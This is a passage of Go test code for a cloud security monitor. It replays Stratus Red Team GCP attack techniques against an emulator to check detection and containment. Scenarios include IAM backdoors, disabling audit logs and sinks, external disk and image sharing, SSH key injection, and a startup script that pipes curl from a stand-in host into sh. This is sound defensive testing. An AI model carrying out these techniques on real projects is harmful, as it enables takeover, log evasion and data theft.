package attack

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"time"

	compute "cloud.google.com/go/compute/apiv1"
	"cloud.google.com/go/compute/apiv1/computepb"
	admin "cloud.google.com/go/iam/admin/apiv1"
	"cloud.google.com/go/iam/admin/apiv1/adminpb"
	"cloud.google.com/go/iam/apiv1/iampb"
	credentials "cloud.google.com/go/iam/credentials/apiv1"
	"cloud.google.com/go/iam/credentials/apiv1/credentialspb"
	"cloud.google.com/go/monitoring/apiv3/v2/monitoringpb"
	"cloud.google.com/go/pubsub/v2/apiv1/pubsubpb"
	"cloud.google.com/go/resourcemanager/apiv3/resourcemanagerpb"
	"cloud.google.com/go/secretmanager/apiv1/secretmanagerpb"
	"golang.org/x/oauth2"
	"google.golang.org/api/iterator"
	"google.golang.org/api/option"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/durationpb"
	"google.golang.org/protobuf/types/known/fieldmaskpb"

	"github.com/cloudcoop/coopguard/shared/config"
	"github.com/cloudcoop/coopguard/shared/gcp"
	"github.com/cloudcoop/coopguard/test/emulator/audit"
)

// actorOther is the principal of the catalogue's techniques done from
// outside the sandbox: whoever holds credentials that may change the
// project (here the operator's, as a phished or leaked login would be).
const actorOther = actorOperator

// Colleague is a user of the project with no access to the key.
const Colleague = "colleague@example.com"

// actorColleague is Colleague as an actor.
const actorColleague = "a user without access to the key (" + Colleague + ")"

// catalogueScenarios are the drills named by DataDog Stratus Red Team's
// GCP technique ids that apply to a sandbox, each played as the principal
// the technique uses, and their benign counterparts. The README's
// coverage table lists every technique, these and the ones left out.
func catalogueScenarios() []Scenario {
	return []Scenario{
		// The sandbox's own account: refused by IAM, contained.
		{Name: "gcp.persistence.create-admin-service-account", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "creates a service account and makes it owner: IAM CreateServiceAccount, Projects.SetIamPolicy (both refused)",
			Act: func(ctx context.Context, w *World) error {
				p := "projects/" + w.Cfg.Cloud.GCP.Project
				_, err := w.Agent.IAMAdmin.CreateServiceAccount(ctx, &adminpb.CreateServiceAccountRequest{Name: p, AccountId: "stratus-red-team-admin"})
				if err := refused(err, "CreateServiceAccount in "+p); err != nil {
					return err
				}
				return grantOwner(ctx, w.Agent, p, "serviceAccount:stratus-red-team-admin@"+w.Cfg.Cloud.GCP.Project+".iam.gserviceaccount.com")
			}},
		{Name: "gcp.persistence.invite-external-user", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "makes an outside Google account owner of the project: Projects.SetIamPolicy (refused)",
			Act: func(ctx context.Context, w *World) error {
				return grantOwner(ctx, w.Agent, "projects/"+w.Cfg.Cloud.GCP.Project, "user:stratus-red-team@example.com")
			}},
		{Name: "gcp.defense-evasion.delete-logging-sink", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "deletes the log sink that feeds coopguard: ConfigServiceV2.DeleteSink (refused); as drill sink-delete",
			Act:     actOf("sink-delete")},
		{Name: "gcp.defense-evasion.disable-logging-sink", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "disables the log sink that feeds coopguard: ConfigServiceV2.UpdateSink disabled=true (refused); as drill sink-disable",
			Act:     actOf("sink-disable")},
		{Name: "gcp.defense-evasion.remove-project-from-organization", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "moves the project out of its organization, away from its policies: Projects.MoveProject (refused)",
			Act: func(ctx context.Context, w *World) error {
				name := "projects/" + w.Cfg.Cloud.GCP.Project
				_, err := w.Agent.Projects.MoveProject(ctx, &resourcemanagerpb.MoveProjectRequest{Name: name, DestinationParent: "folders/666"})
				return refused(err, "MoveProject "+name)
			}},
		{Name: "gcp.discovery.download-instance-metadata", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
			Summary: "lists the project's VMs and their metadata through the API: instances.list (refused; ADMIN_READ, audited since Provision turns it on)",
			Act: func(ctx context.Context, w *World) error {
				it := w.Agent.Instances.List(ctx, &computepb.ListInstancesRequest{Project: w.Cfg.Cloud.GCP.Project, Zone: w.Cfg.Cloud.GCP.Zone})
				_, err := it.Next()
				if err == iterator.Done {
					err = nil
				}
				return refused(err, "instances.list")
			}},
		{Name: "gcp.credential-access.secretmanager-retrieve-secrets", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
			Summary: "lists every secret of the project to read them all: ListSecrets (refused; ADMIN_READ)",
			Act: func(ctx context.Context, w *World) error {
				it := w.Agent.Secrets.ListSecrets(ctx, &secretmanagerpb.ListSecretsRequest{Parent: "projects/" + w.Cfg.Cloud.GCP.Project})
				_, err := it.Next()
				if err == iterator.Done {
					err = nil
				}
				return refused(err, "ListSecrets")
			}},
		{Name: "gcp.execution.gce-launch-unusual-instances", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "launches an unusual VM: instances.insert (refused); as drill create-vm",
			Act:     actOf("create-vm")},
		{Name: "gcp.impact.create-gpu-vm", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "launches a VM with a GPU, to mine: instances.insert with guestAccelerators (refused)",
			Act: func(ctx context.Context, w *World) error {
				return insertVM(ctx, w, w.Cfg.Cloud.GCP.Zone, "stratus-gpu", []*computepb.AcceleratorConfig{{
					AcceleratorType: proto.String("zones/" + w.Cfg.Cloud.GCP.Zone + "/acceleratorTypes/nvidia-tesla-t4"), AcceleratorCount: proto.Int32(1)}})
			}},
		{Name: "gcp.impact.create-instances-in-multiple-zones", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "launches VMs in three zones: instances.insert ×3 (refused)",
			Act: func(ctx context.Context, w *World) error {
				for _, z := range []string{"us-central1-a", "us-east1-b", "europe-west1-b"} {
					if err := insertVM(ctx, w, z, "stratus-"+z, nil); err != nil {
						return err
					}
				}
				return nil
			}},
		{Name: "gcp.exfiltration.open-port-22-ingress", Kind: Attack, Actor: actorSandbox, Counterpart: "converge",
			Summary: "opens SSH from the internet on its network: firewalls.insert 0.0.0.0/0 tcp:22 (refused)",
			Act: func(ctx context.Context, w *World) error {
				_, err := w.Agent.Firewalls.Insert(ctx, &computepb.InsertFirewallRequest{Project: w.Cfg.Cloud.GCP.Project, FirewallResource: &computepb.Firewall{
					Name: proto.String("stratus-ssh"), Network: proto.String("global/networks/" + w.Sandbox.Network()), Direction: proto.String("INGRESS"),
					SourceRanges: []string{"0.0.0.0/0"}, Allowed: []*computepb.Allowed{{IPProtocol: proto.String("tcp"), Ports: []string{"22"}}}}})
				return refused(err, "firewalls.insert stratus-ssh")
			}},

		{Name: "gcp.privilege-escalation.impersonate-service-accounts", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
			Summary: "tries to mint access tokens for each of coopguard's accounts: IAMCredentials.GenerateAccessToken (refused; ADMIN_READ)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.credentialsAs(ctx, w.Cfg.Cloud.GCP.ServiceAccount)
				if err != nil {
					return err
				}
				for i, a := range w.Cfg.CoopguardAccounts() {
					name := "projects/-/serviceAccounts/" + a
					_, err := c.GenerateAccessToken(ctx, &credentialspb.GenerateAccessTokenRequest{Name: name, Scope: []string{cloudPlatform}})
					// The first refusal is the drill's; once it is contained
					// (which may land between two calls), the sandbox's
					// token itself is rejected, as GCP rejects a disabled
					// account's tokens.
					if i > 0 && status.Code(err) == codes.Unauthenticated {
						return nil
					}
					if err := refused(err, "GenerateAccessToken for "+a); err != nil {
						return err
					}
				}
				return nil
			}},

		// Another principal handing the sandbox more power: contained.
		{Name: "sandbox-token-minted", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
			Summary: "mints an access token of the sandbox's account, to act as it from anywhere for an hour: IAMCredentials.GenerateAccessToken (allowed)",
			Act: func(ctx context.Context, w *World) error {
				name, err := w.sandboxAccountName()
				if err != nil {
					return err
				}
				c, err := w.credentialsAs(ctx, w.principal(actorOther))
				if err != nil {
					return err
				}
				_, err = c.GenerateAccessToken(ctx, &credentialspb.GenerateAccessTokenRequest{Name: "projects/-/serviceAccounts/" + w.Cfg.Cloud.GCP.ServiceAccount, Scope: []string{cloudPlatform}})
				return allowed(err, "GenerateAccessToken for "+name)
			}},
		{Name: "gcp.persistence.create-service-account-key", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
			Summary: "mints a key for the sandbox's account, to act as it from anywhere: IAM CreateServiceAccountKey (allowed)",
			Act: func(ctx context.Context, w *World) error {
				name, err := w.sandboxAccountName()
				if err != nil {
					return err
				}
				_, err = w.Operator.IAMAdmin.CreateServiceAccountKey(ctx, &adminpb.CreateServiceAccountKeyRequest{Name: name})
				return allowed(err, "CreateServiceAccountKey on "+name)
			}},
		{Name: "gcp.persistence.backdoor-service-account-policy", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
			Summary: "lets an outside account mint tokens for the sandbox's account: IAM SetIamPolicy roles/iam.serviceAccountTokenCreator (allowed)",
			Act: func(ctx context.Context, w *World) error {
				res, err := w.sandboxAccountName()
				if err != nil {
					return err
				}
				pol, err := w.Operator.IAMAdmin.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res, Options: &iampb.GetPolicyOptions{RequestedPolicyVersion: 3}})
				if err != nil {
					return allowed(err, "GetIamPolicy on "+res)
				}
				pol.Add("user:stratus-red-team@example.com", "roles/iam.serviceAccountTokenCreator")
				_, err = w.Operator.IAMAdmin.SetIamPolicy(ctx, &admin.SetIamPolicyRequest{Resource: res, Policy: pol})
				return allowed(err, "SetIamPolicy on "+res)
			}},
		{Name: "gcp.execution.modify-gce-startup-script", Kind: Attack, Actor: actorOther, Counterpart: "operator-metadata-note",
			Summary: "plants a startup-script on the sandbox's VM, to run as root at its next boot: instances.setMetadata (allowed)",
			Act: func(ctx context.Context, w *World) error {
				return w.setVMMetadata(ctx, w.Operator, "startup-script", "#!/bin/sh\ncurl -s https://198.51.100.23/x | sh")
			}},
		{Name: "gcp.lateral-movement.add-sshkey-instance-metadata", Kind: Attack, Actor: actorOther, Counterpart: "operator-metadata-note",
			Summary: "adds an SSH key to the sandbox's VM: instances.setMetadata ssh-keys (allowed)",
			Act: func(ctx context.Context, w *World) error {
				return w.setVMMetadata(ctx, w.Operator, "ssh-keys", "stratus:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDrill stratus")
			}},

		{Name: "sandbox-account-granted", Kind: Attack, Actor: actorOther, Counterpart: "operator-grant-viewer",
			Summary: "grants the sandbox's account IAP tunnelling and OS Login admin on the project: Projects.SetIamPolicy (allowed)",
			Act: func(ctx context.Context, w *World) error {
				res := "projects/" + w.Cfg.Cloud.GCP.Project
				pol, err := w.Operator.Projects.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res, Options: &iampb.GetPolicyOptions{RequestedPolicyVersion: 3}})
				if err != nil {
					return allowed(err, "GetIamPolicy on "+res)
				}
				sa := "serviceAccount:" + w.Cfg.Cloud.GCP.ServiceAccount
				pol.Bindings = append(pol.Bindings, &iampb.Binding{Role: "roles/iap.tunnelResourceAccessor", Members: []string{sa}},
					&iampb.Binding{Role: "roles/compute.osAdminLogin", Members: []string{sa}})
				_, err = w.Operator.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: pol})
				return allowed(err, "SetIamPolicy on "+res)
			}},
		{Name: "gcp.exfiltration.share-compute-disk", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
			Summary: "shares the sandbox's boot disk with an outside account: disks.setIamPolicy roles/compute.storageAdmin (allowed)",
			Act: func(ctx context.Context, w *World) error {
				p, z, d := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
				_, err := w.Operator.Disks.SetIamPolicy(ctx, &computepb.SetIamPolicyDiskRequest{Project: p, Zone: z, Resource: d,
					ZoneSetPolicyRequestResource: &computepb.ZoneSetPolicyRequest{Policy: shareWithAttacker()}})
				return allowed(err, "disks.setIamPolicy "+d)
			}},
		{Name: "gcp.exfiltration.share-compute-snapshot", Kind: Attack, Actor: actorOther, Counterpart: "operator-list-keys",
			Summary: "snapshots the sandbox's boot disk and shares the snapshot with an outside account: disks.createSnapshot (notified), snapshots.setIamPolicy (allowed)",
			Act: func(ctx context.Context, w *World) error {
				p, z, d := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
				snap := d + "-stratus"
				if _, err := w.Operator.Disks.CreateSnapshot(ctx, &computepb.CreateSnapshotDiskRequest{Project: p, Zone: z, Disk: d,
					SnapshotResource: &computepb.Snapshot{Name: proto.String(snap)}}); err != nil {
					return allowed(err, "disks.createSnapshot "+d)
				}
				_, err := w.Operator.Snapshots.SetIamPolicy(ctx, &computepb.SetIamPolicySnapshotRequest{Project: p, Resource: snap,
					GlobalSetPolicyRequestResource: &computepb.GlobalSetPolicyRequest{Policy: shareWithAttacker()}})
				return allowed(err, "snapshots.setIamPolicy "+snap)
			}},
		{Name: "gcp.exfiltration.share-compute-image", Kind: Attack, Actor: actorOther, Counterpart: "operator-team-image",
			Summary: "makes an image of the sandbox's boot disk and shares it with an outside account: images.insert sourceDisk forceCreate, images.setIamPolicy (allowed)",
			Act: func(ctx context.Context, w *World) error {
				p, z, d := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
				return w.shareImageOf(ctx, p, "zones/"+z+"/disks/"+d, d+"-stratus", shareWithAttacker())
			}},

		// Another principal around the sandbox: notified.
		{Name: "gcp.defense-evasion.disable-audit-logs", Kind: Notify, Actor: actorOther, Counterpart: "operator-grant-viewer",
			Summary: "turns off the project's Data Access audit logs for every service: Projects.SetIamPolicy auditConfigs (allowed)",
			Act: func(ctx context.Context, w *World) error {
				res := "projects/" + w.Cfg.Cloud.GCP.Project
				pol, err := w.Operator.Projects.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res, Options: &iampb.GetPolicyOptions{RequestedPolicyVersion: 3}})
				if err != nil {
					return allowed(err, "GetIamPolicy on "+res)
				}
				var keep []*iampb.AuditConfig
				for _, ac := range pol.GetAuditConfigs() {
					if ac.GetService() != "allServices" {
						keep = append(keep, ac)
					}
				}
				pol.AuditConfigs = keep
				_, err = w.Operator.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: pol,
					UpdateMask: &fieldmaskpb.FieldMask{Paths: []string{"audit_configs"}}})
				return allowed(err, "SetIamPolicy auditConfigs on "+res)
			}},
		{Name: "gcp.defense-evasion.remove-vpc-flow-logs", Kind: Notify, Actor: actorOther, Counterpart: "converge",
			Summary: "turns off flow logs on the sandbox's subnet: subnetworks.patch logConfig.enable=false (allowed)",
			Act: func(ctx context.Context, w *World) error {
				p, region, name := w.Cfg.Cloud.GCP.Project, w.Sandbox.Region, w.Sandbox.Subnet()
				sub, err := w.Operator.Subnetworks.Get(ctx, &computepb.GetSubnetworkRequest{Project: p, Region: region, Subnetwork: name})
				if err != nil {
					return allowed(err, "subnetworks.get "+name)
				}
				op, err := w.Operator.Subnetworks.Patch(ctx, &computepb.PatchSubnetworkRequest{Project: p, Region: region, Subnetwork: name,
					SubnetworkResource: &computepb.Subnetwork{Fingerprint: sub.Fingerprint, LogConfig: &computepb.SubnetworkLogConfig{Enable: proto.Bool(false)}}})
				if err == nil {
					err = op.Wait(ctx)
				}
				return allowed(err, "subnetworks.patch "+name)
			}},
		{Name: "gcp.lateral-movement.add-sshkey-project-metadata", Kind: Notify, Actor: actorOther, Counterpart: "operator-metadata-note",
			Summary: "adds an SSH key to the project's metadata (the sandbox's VM blocks project-wide keys): projects.setCommonInstanceMetadata (allowed)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.computeProjectsAs(ctx, w.principal(actorOther))
				if err != nil {
					return err
				}
				p := w.Cfg.Cloud.GCP.Project
				proj, err := c.Get(ctx, &computepb.GetProjectRequest{Project: p})
				if err != nil {
					return allowed(err, "projects.get "+p)
				}
				md := proj.GetCommonInstanceMetadata()
				if md == nil {
					md = &computepb.Metadata{}
				}
				md.Items = append(md.Items, &computepb.Items{Key: proto.String("ssh-keys"), Value: proto.String("stratus:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDrill stratus")})
				op, err := c.SetCommonInstanceMetadata(ctx, &computepb.SetCommonInstanceMetadataProjectRequest{Project: p, MetadataResource: md})
				if err == nil {
					err = op.Wait(ctx)
				}
				return allowed(err, "projects.setCommonInstanceMetadata "+p)
			}},
		{Name: "sandbox-network-rerouted", Kind: Notify, Actor: actorOther, Counterpart: "operator-team-network",
			Summary: "reroutes the sandbox's network: routes.insert 0.0.0.0/0 via another box, networks.addPeering to an outside network (allowed)",
			Act: func(ctx context.Context, w *World) error {
				return w.reroute(ctx, w.Sandbox.Network(), "stratus-peer")
			}},

		{Name: "operator-alert-policy-delete", Kind: Notify, Actor: actorOperator, Counterpart: "operator-own-alert-policy",
			Summary: "deletes coopguard's CPU alert policy (allowed): AlertPolicyService.DeleteAlertPolicy",
			Act: func(ctx context.Context, w *World) error {
				name, err := w.alertPolicy()
				if err != nil {
					return err
				}
				err = w.Operator.AlertPolicies.DeleteAlertPolicy(ctx, &monitoringpb.DeleteAlertPolicyRequest{Name: name})
				return allowed(err, "DeleteAlertPolicy "+name)
			}},

		{Name: "denied-key-read", Kind: Notify, Actor: actorColleague, Counterpart: "secret-theft",
			Summary: "tries to read the sandbox's key without access: AccessSecretVersion (refused, status 7: nothing leaked, so no containment)",
			Act: func(ctx context.Context, w *World) error {
				c, err := w.Emu.ClientsAs(ctx, w.Cfg.Cloud.GCP.Project, Colleague)
				if err != nil {
					return err
				}
				w.closers = append(w.closers, func() { c.Close() })
				s := w.secretName(w.Cfg.Coopguard.Secrets[0]) + "/versions/latest"
				_, err = c.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: s})
				return refused(err, "AccessSecretVersion on "+s+" by "+Colleague)
			}},

		{Name: "coopguard-function-opened", Kind: Notify, Actor: actorOther, Counterpart: "operator-list-keys",
			Summary: "lets anyone invoke coopguard's HandleLogEntry function, to feed it forged events: Cloud Run Services.SetIamPolicy allUsers (allowed)",
			Setup: func(ctx context.Context, w *World) error {
				// As deploy does: the function's Cloud Run service, invoked
				// by Eventarc's account only.
				w.Emu.Run.SeedService(w.Cfg.Cloud.GCP.Project, w.Cfg.Region(), "coopguard-handle-log-entry", nil)
				return nil
			},
			Act: func(ctx context.Context, w *World) error {
				res := "projects/" + w.Cfg.Cloud.GCP.Project + "/locations/" + w.Cfg.Region() + "/services/coopguard-handle-log-entry"
				pol, err := w.Operator.Services.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res, Options: &iampb.GetPolicyOptions{RequestedPolicyVersion: 3}})
				if err != nil {
					return allowed(err, "GetIamPolicy on "+res)
				}
				pol.Bindings = append(pol.Bindings, &iampb.Binding{Role: "roles/run.invoker", Members: []string{"allUsers"}})
				_, err = w.Operator.Services.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: pol})
				return allowed(err, "SetIamPolicy on "+res)
			}},
		{Name: "coopguard-account-key", Kind: Notify, Actor: actorOther, Counterpart: "operator-list-keys",
			Summary: "mints a key for coopguard's responder account: IAM CreateServiceAccountKey (allowed)",
			Act: func(ctx context.Context, w *World) error {
				email := w.Emu.IAMAdmin.SeedServiceAccount(w.Cfg.Cloud.GCP.Project, config.AccountResponder)
				name := audit.ServiceAccountResource(email)
				_, err := w.Operator.IAMAdmin.CreateServiceAccountKey(ctx, &adminpb.CreateServiceAccountKeyRequest{Name: name})
				return allowed(err, "CreateServiceAccountKey on "+name)
			}},

		// Benign counterparts.
		{Name: "operator-own-alert-policy", Kind: Benign, Actor: actorOperator, Counterpart: "operator-alert-policy-delete",
			Summary: "creates, edits and deletes an alert policy of the team's own, not coopguard's: Create/Update/DeleteAlertPolicy",
			Act: func(ctx context.Context, w *World) error {
				p, err := w.Operator.AlertPolicies.CreateAlertPolicy(ctx, &monitoringpb.CreateAlertPolicyRequest{Name: "projects/" + w.Cfg.Cloud.GCP.Project,
					AlertPolicy: &monitoringpb.AlertPolicy{DisplayName: "team latency", Combiner: monitoringpb.AlertPolicy_OR,
						Conditions: []*monitoringpb.AlertPolicy_Condition{{DisplayName: "latency", Condition: &monitoringpb.AlertPolicy_Condition_ConditionThreshold{
							ConditionThreshold: &monitoringpb.AlertPolicy_Condition_MetricThreshold{
								Filter:     `metric.type="compute.googleapis.com/instance/cpu/utilization" AND resource.type="gce_instance"`,
								Comparison: monitoringpb.ComparisonType_COMPARISON_GT, ThresholdValue: 0.5, Duration: durationpb.New(5 * time.Minute)}}}}}})
				if err != nil {
					return allowed(err, "CreateAlertPolicy team latency")
				}
				p.DisplayName = "team latency (p99)"
				if _, err := w.Operator.AlertPolicies.UpdateAlertPolicy(ctx, &monitoringpb.UpdateAlertPolicyRequest{AlertPolicy: p}); err != nil {
					return allowed(err, "UpdateAlertPolicy "+p.GetName())
				}
				err = w.Operator.AlertPolicies.DeleteAlertPolicy(ctx, &monitoringpb.DeleteAlertPolicyRequest{Name: p.GetName()})
				return allowed(err, "DeleteAlertPolicy "+p.GetName())
			}},
		{Name: "operator-list-keys", Kind: Benign, Actor: actorOperator, Counterpart: "gcp.persistence.create-service-account-key",
			Summary: "lists the keys and reads the IAM policy of the sandbox's account: ListServiceAccountKeys, GetIamPolicy",
			Act: func(ctx context.Context, w *World) error {
				name, err := w.sandboxAccountName()
				if err != nil {
					return err
				}
				if _, err := w.Operator.IAMAdmin.ListServiceAccountKeys(ctx, &adminpb.ListServiceAccountKeysRequest{Name: name}); err != nil {
					return allowed(err, "ListServiceAccountKeys on "+name)
				}
				_, err = w.Operator.IAMAdmin.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: name})
				return allowed(err, "GetIamPolicy on "+name)
			}},
		{Name: "operator-metadata-note", Kind: Benign, Actor: actorOperator, Counterpart: "gcp.execution.modify-gce-startup-script",
			Summary: "adds a note to the sandbox VM's metadata (no code, no keys): instances.setMetadata owner-note",
			Act: func(ctx context.Context, w *World) error {
				return w.setVMMetadata(ctx, w.Operator, "owner-note", "ask before resizing")
			}},
		{Name: "operator-grant-viewer", Kind: Benign, Actor: actorOperator, Counterpart: "gcp.defense-evasion.disable-audit-logs",
			Summary: "grants a colleague roles/viewer on the project, audit configs untouched: Projects.SetIamPolicy",
			Act: func(ctx context.Context, w *World) error {
				res := "projects/" + w.Cfg.Cloud.GCP.Project
				pol, err := w.Operator.Projects.GetIamPolicy(ctx, &iampb.GetIamPolicyRequest{Resource: res, Options: &iampb.GetPolicyOptions{RequestedPolicyVersion: 3}})
				if err != nil {
					return allowed(err, "GetIamPolicy on "+res)
				}
				pol.Bindings = append(pol.Bindings, &iampb.Binding{Role: "roles/viewer", Members: []string{"user:" + Colleague}})
				_, err = w.Operator.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: pol})
				return allowed(err, "SetIamPolicy on "+res)
			}},
		{Name: "operator-team-image", Kind: Benign, Actor: actorOperator, Counterpart: "gcp.exfiltration.share-compute-image",
			Summary: "makes an image of the team's build VM's disk (not the sandbox's) and shares it with a colleague: instances.insert, images.insert, images.setIamPolicy",
			Act: func(ctx context.Context, w *World) error {
				p, z := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone
				if err := w.insertNetwork(ctx, "team-net"); err != nil {
					return err
				}
				op, err := w.Operator.Instances.Insert(ctx, &computepb.InsertInstanceRequest{Project: p, Zone: z, InstanceResource: &computepb.Instance{
					Name: proto.String("team-build"), MachineType: proto.String("zones/" + z + "/machineTypes/e2-small"),
					Disks: []*computepb.AttachedDisk{{Boot: proto.Bool(true), AutoDelete: proto.Bool(true),
						InitializeParams: &computepb.AttachedDiskInitializeParams{SourceImage: proto.String("projects/debian-cloud/global/images/family/debian-12")}}},
					NetworkInterfaces: []*computepb.NetworkInterface{{Network: proto.String("global/networks/team-net")}},
				}})
				if err == nil {
					err = op.Wait(ctx)
				}
				if err != nil {
					return allowed(err, "instances.insert team-build")
				}
				team := &computepb.Policy{Bindings: []*computepb.Binding{{Role: proto.String("roles/compute.imageUser"), Members: []string{"user:" + Colleague}}}}
				return w.shareImageOf(ctx, p, "zones/"+z+"/disks/team-build", "team-build-image", team)
			}},
		{Name: "operator-team-network", Kind: Benign, Actor: actorOperator, Counterpart: "sandbox-network-rerouted",
			Summary: "routes and peers the team's own network (not the sandbox's): routes.insert, networks.addPeering",
			Act: func(ctx context.Context, w *World) error {
				if err := w.insertNetwork(ctx, "team-net"); err != nil {
					return err
				}
				return w.reroute(ctx, "team-net", "team-peer")
			}},
	}
}

// cloudPlatform is the OAuth scope of every Google Cloud API.
const cloudPlatform = "https://www.googleapis.com/auth/cloud-platform"

// credentialsAs dials the official Service Account Credentials client
// acting as principal.
func (w *World) credentialsAs(ctx context.Context, principal string) (*credentials.IamCredentialsClient, error) {
	c, err := credentials.NewIamCredentialsClient(ctx, append(gcp.EmulatedGRPC(w.Emu.GRPCAddr), gcp.EmulatedIdentity(principal))...)
	if err != nil {
		return nil, fmt.Errorf("dial the emulated IAM Credentials API: %w", err)
	}
	w.closers = append(w.closers, func() { c.Close() })
	return c, nil
}

// actOf is the Act of the scenario called name (the catalogue's id for a
// drill that already exists under coopguard's own name).
func actOf(name string) func(context.Context, *World) error {
	return func(ctx context.Context, w *World) error {
		s, err := Find(name)
		if err != nil {
			return err
		}
		return s.Act(ctx, w)
	}
}

// shareWithAttacker is a Compute resource policy letting an outside
// account use the resource (copy the disk into its own project).
func shareWithAttacker() *computepb.Policy {
	return &computepb.Policy{Bindings: []*computepb.Binding{{Role: proto.String("roles/compute.storageAdmin"), Members: []string{"user:stratus-red-team@example.com"}}}}
}

// grantOwner is c making member owner of the project res, which IAM
// refuses to the sandbox's account.
func grantOwner(ctx context.Context, c *gcp.Clients, res, member string) error {
	_, err := c.Projects.SetIamPolicy(ctx, &iampb.SetIamPolicyRequest{Resource: res, Policy: &iampb.Policy{
		Bindings: []*iampb.Binding{{Role: "roles/owner", Members: []string{member}}}}})
	return refused(err, "Projects.SetIamPolicy on "+res+" (owner: "+member+")")
}

// insertVM is the sandbox's account creating a VM, which IAM refuses.
func insertVM(ctx context.Context, w *World, zone, name string, gpus []*computepb.AcceleratorConfig) error {
	_, err := w.Agent.Instances.Insert(ctx, &computepb.InsertInstanceRequest{Project: w.Cfg.Cloud.GCP.Project, Zone: zone, InstanceResource: &computepb.Instance{
		Name:              proto.String(name),
		MachineType:       proto.String("zones/" + zone + "/machineTypes/n1-standard-4"),
		GuestAccelerators: gpus,
		Disks: []*computepb.AttachedDisk{{Boot: proto.Bool(true), AutoDelete: proto.Bool(true),
			InitializeParams: &computepb.AttachedDiskInitializeParams{SourceImage: proto.String("projects/debian-cloud/global/images/family/debian-12")}}},
		NetworkInterfaces: []*computepb.NetworkInterface{{Network: proto.String("global/networks/default")}},
	}})
	return refused(err, "instances.insert "+name+" in "+zone)
}

// sandboxAccountName is the IAM resource name of the sandbox's account,
// which it makes sure exists in the emulated IAM API, as in the project
// (agentIAM).
func (w *World) sandboxAccountName() (string, error) {
	sa := w.Cfg.Cloud.GCP.ServiceAccount
	id, _, _ := strings.Cut(sa, "@")
	if w.Emu.IAMAdmin.SeedServiceAccount(w.Cfg.Cloud.GCP.Project, id) != sa {
		return "", fmt.Errorf("the emulated IAM API names the sandbox's account otherwise than %s", sa)
	}
	return audit.ServiceAccountResource(sa), nil
}

// setVMMetadata sets key=value in the sandbox VM's metadata as c (adding
// the key or replacing its value), keeping its other items, under the
// current fingerprint, and waits for it.
func (w *World) setVMMetadata(ctx context.Context, c *gcp.Clients, key, value string) error {
	p, z, vm := w.Cfg.Cloud.GCP.Project, w.Cfg.Cloud.GCP.Zone, w.Sandbox.Name
	inst, err := c.Instances.Get(ctx, &computepb.GetInstanceRequest{Project: p, Zone: z, Instance: vm})
	if err != nil {
		return allowed(err, "instances.get "+vm)
	}
	md := inst.GetMetadata()
	i := slices.IndexFunc(md.GetItems(), func(it *computepb.Items) bool { return it.GetKey() == key })
	if i < 0 {
		md.Items = append(md.Items, &computepb.Items{Key: proto.String(key)})
		i = len(md.Items) - 1
	}
	md.Items[i].Value = proto.String(value)
	op, err := c.Instances.SetMetadata(ctx, &computepb.SetMetadataInstanceRequest{Project: p, Zone: z, Instance: vm, MetadataResource: md})
	if err == nil {
		err = op.Wait(ctx)
	}
	return allowed(err, "instances.setMetadata "+key+" on "+vm)
}

// computeProjectsAs dials the official Compute Projects client (which
// coopguard's client set has no need for) acting as principal.
func (w *World) computeProjectsAs(ctx context.Context, principal string) (*compute.ProjectsClient, error) {
	c, err := compute.NewProjectsRESTClient(ctx, w.computeOpts(principal)...)
	if err != nil {
		return nil, fmt.Errorf("dial the emulated Compute projects API: %w", err)
	}
	w.closers = append(w.closers, func() { c.Close() })
	return c, nil
}

// computeOpts are the options of an official Compute REST client acting
// as principal against the emulated Compute.
func (w *World) computeOpts(principal string) []option.ClientOption {
	return []option.ClientOption{option.WithEndpoint(w.Emu.ComputeURL), option.WithTelemetryDisabled(),
		option.WithTokenSource(oauth2.StaticTokenSource(&oauth2.Token{AccessToken: gcp.EmulatedToken(principal)}))}
}

// shareImageOf is the operator making image of disk in project
// (forceCreate: the disk is attached to a VM), waiting for it, and
// setting its IAM policy to pol, through the official Images client.
func (w *World) shareImageOf(ctx context.Context, project, disk, image string, pol *computepb.Policy) error {
	c, err := compute.NewImagesRESTClient(ctx, w.computeOpts(w.principal(actorOperator))...)
	if err != nil {
